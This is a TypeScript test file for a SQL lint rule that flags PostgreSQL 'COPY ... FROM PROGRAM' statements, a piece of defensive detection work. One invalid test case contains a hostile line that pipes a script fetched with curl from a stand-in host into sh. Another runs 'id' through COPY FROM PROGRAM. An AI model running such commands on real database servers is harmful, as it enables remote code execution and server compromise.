import rule from '../../../../server/src/core/rules/sql/copy-from-program';
import { testSqlRule } from '../../../helpers/rule-tester';

testSqlRule(rule, {
  valid: ["COPY t FROM '/data/t.csv';", 'COPY t FROM STDIN;'],
  invalid: [
    {
      code: "BEGIN;\nCOPY loot (line) FROM PROGRAM 'curl -s http://x.example/p.sh | sh';",
      errors: [{ messageId: 'fromProgram', line: 2, column: 31 }],
    },
    {
      code: "DO $$\nBEGIN\n  COPY t FROM PROGRAM 'id';\nEND $$;",
      errors: [{ messageId: 'fromProgram', line: 3, column: 23 }],
    },
  ],
});
